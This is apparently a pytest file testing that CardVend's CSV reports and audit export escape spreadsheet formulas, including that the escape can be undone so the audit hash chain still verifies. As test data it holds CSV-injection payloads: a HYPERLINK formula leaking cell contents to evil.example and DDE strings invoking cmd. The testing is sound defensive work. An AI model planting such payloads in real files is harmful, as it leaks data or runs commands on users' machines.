"""Formula-safe CSV: every CSV CardVend writes (shift, daily and statistics reports, the audit
export) escapes a cell that a spreadsheet would run as a formula with a leading ``'``; plain
numbers such as a variance of -5.00 stay numbers.  The exports are made by separate processes, as
people make them, and read back with the csv module."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import sqlite3
from pathlib import Path

import pytest

from app.clock import SystemClock
from app.csvsafe import safe_cell
from app.csvsafe import unescape_cell
from app.domain.audit import AuditRow
from app.domain.audit import verify_rows
from app.persistence.db import Database
from app.persistence.models import AuditEntry
from app.services import audit
from tests.conftest import ROOT
from tests.rigs.cli import run

REMOTE = "100000000010"  # a remote fee-control customer: a sale needs no card
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
EVIL_PLAN = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_OFFICE = "-2+3+cmd|' /C calc'!A0"
EVIL_ID = "=1+1"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # so that the escape can be undone exactly
        ("-5.00 ", "'-5.00 "),
        ("-5.00", "-5.00"),  # a plain number stays a number
        ("-500", "-500"),
        ("-0.5", "-0.5"),
        ("-５", "'-５"),  # full-width digits are not a plain number
        ("王丽 Wang Li", "王丽 Wang Li"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (-500, "-500"),
    ],
)
def test_safe_cell(value: object, cell: str) -> None:
    assert safe_cell(value) == cell
    if value is not None:
        assert unescape_cell(cell) == str(value)


def test_every_csv_writer_is_the_safe_one() -> None:
    """No product module writes CSV around app/csvsafe.py."""
    offenders = []
    for package in ("app", "cardio", "printing", "sync", "ui"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "app" / "csvsafe.py":
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if (
                    isinstance(node, ast.Attribute)
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                    and node.attr in ("writer", "DictWriter")
                ) or (
                    isinstance(node, ast.ImportFrom)
                    and node.module == "csv"
                    and any(a.name in ("writer", "DictWriter") for a in node.names)
                ):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []


def sections(path: Path) -> dict[str, list[dict[str, str]]]:
    """A report CSV back as ``section name -> rows``."""
    text = path.read_text(encoding="utf-8-sig")
    out: dict[str, list[dict[str, str]]] = {}
    name, header = "", None
    for row in csv.reader(io.StringIO(text, newline="")):
        if not row:
            name, header = "", None
        elif not name:
            name = row[0].strip("[]")
            out[name] = []
        elif header is None:
            header = row
        else:
            out[name].append(dict(zip(header, row, strict=True)))
    return out


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A counter day of a supervisor whose name is a formula, closed 5.00 yuan short."""
    home = tmp_path_factory.mktemp("csv")
    assert run(home, "demo").returncode == 0
    admin = {"CARDVEND_PASSWORD": "demo-a01", "CARDVEND_NEW_PASSWORD": "x01-password"}
    r = run(home, "operators", "add", "x01", "--role", "supervisor", "--name", EVIL_NAME,
            "--operator", "a01", env=admin)  # fmt: skip
    assert r.returncode == 0, r.stderr
    x01 = {"CARDVEND_PASSWORD": "x01-password"}
    for args in (
        ("shift", "open", "--float", "100"),
        ("sell", "--customer", REMOTE, "--amount", "30", "--cash", "50"),
        ("shift", "close", "--counted", "125", "--reason", "=5 short"),  # expected 130.00
    ):
        r = run(home, *args, "--operator", "x01", env=x01)
        assert r.returncode == 0, r.stderr
    # names the central system sends: a tariff plan's and the office's
    con = sqlite3.connect(home / "data" / "cardvend.db")
    con.execute("UPDATE tariff_plans SET name = ?", (EVIL_PLAN,))
    con.execute("UPDATE offices SET name = ?", (EVIL_OFFICE,))
    con.commit()
    con.close()
    return home


def export(home: Path, kind: str) -> Path:
    out = home / f"{kind}.csv"
    r = run(home, "report", kind, "--out", str(out), "--operator", "x01",
            env={"CARDVEND_PASSWORD": "x01-password"})  # fmt: skip
    assert r.returncode == 0, r.stderr
    return out


def test_shift_report_csv(home: Path) -> None:
    got = sections(export(home, "shift"))
    summary = {row["field"]: row for row in got["summary"]}
    assert summary["operator_name"]["value"] == "'" + EVIL_NAME
    assert summary["operator_id"]["value"] == "x01"
    assert (summary["variance"]["value"], summary["variance"]["fen"]) == ("-5.00", "-500")
    assert (summary["sales"]["value"], summary["sales"]["fen"]) == ("30.00", "3000")


def test_daily_report_csv(home: Path) -> None:
    got = sections(export(home, "daily"))
    summary = {row["field"]: row["value"] for row in got["summary"]}
    assert summary["office_name"] == "'" + EVIL_OFFICE
    (x01,) = [row for row in got["by_operator"] if row["key"] == "x01"]
    assert x01["name"] == "'" + EVIL_NAME and x01["sales_fen"] == "3000"
    (shift,) = [row for row in got["shifts"] if row["operator_id"] == "x01"]
    assert (shift["variance_yuan"], shift["variance_fen"]) == ("-5.00", "-500")


def test_stats_report_csv(home: Path) -> None:
    got = sections(export(home, "stats"))
    summary = {row["field"]: row["value"] for row in got["summary"]}
    assert summary["office_name"] == "'" + EVIL_OFFICE
    assert {row["plan_name"] for row in got["plans"]} == {"'" + EVIL_PLAN}


def test_audit_export_csv(home: Path) -> None:
    # ids are checked before anything is recorded now, so a formula reaches the log's target
    # the way free text of any future action would: through the audit service itself
    r = run(home, "operators", "list", "--operator", EVIL_ID, env={"CARDVEND_PASSWORD": "x"})
    assert r.returncode == 2  # refused as an id: nothing recorded
    db = Database(str(home / "data" / "cardvend.db"))
    try:
        with db.write() as session:
            audit.Actor(None, "C01", SystemClock()).record(
                session, "login", EVIL_ID, result="failed"
            )
    finally:
        db.dispose()
    out = home / "audit.csv"
    r = run(home, "audit", "export", "--out", str(out), "--operator", "a01",
            env={"CARDVEND_PASSWORD": "demo-a01"})  # fmt: skip
    assert r.returncode == 0, r.stderr
    with out.open(encoding="utf-8-sig", newline="") as f:
        header, *lines = list(csv.reader(f))
    assert tuple(header) == audit.CSV_HEADER
    targets = [line[header.index("target")] for line in lines]
    assert "'" + EVIL_ID in targets and EVIL_ID not in targets
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for ln in lines for cell in ln)

    # undone, the cells are the stored values: the chain checks from the file alone, up to the
    # hash the database holds for the last exported row (the export itself is audited after it)
    def parse(cells: list[str]) -> AuditRow:
        seq, at, op, counter, action, target, result, detail, prev, digest = cells
        return AuditRow(
            int(seq), dt.datetime.fromisoformat(at), op or None, counter, action, target,
            result, detail, prev, digest,
        )  # fmt: skip

    rows = [parse([unescape_cell(cell) for cell in line]) for line in lines]
    db = Database(str(home / "data" / "cardvend.db"))
    try:
        with db.read() as session:
            stored = session.get(AuditEntry, rows[-1].seq)
            assert stored is not None
            head = (stored.seq, stored.hash)
    finally:
        db.dispose()
    assert verify_rows(rows, head=head).ok
    assert not verify_rows([parse(line) for line in lines], head=head).ok  # escaped: not as stored
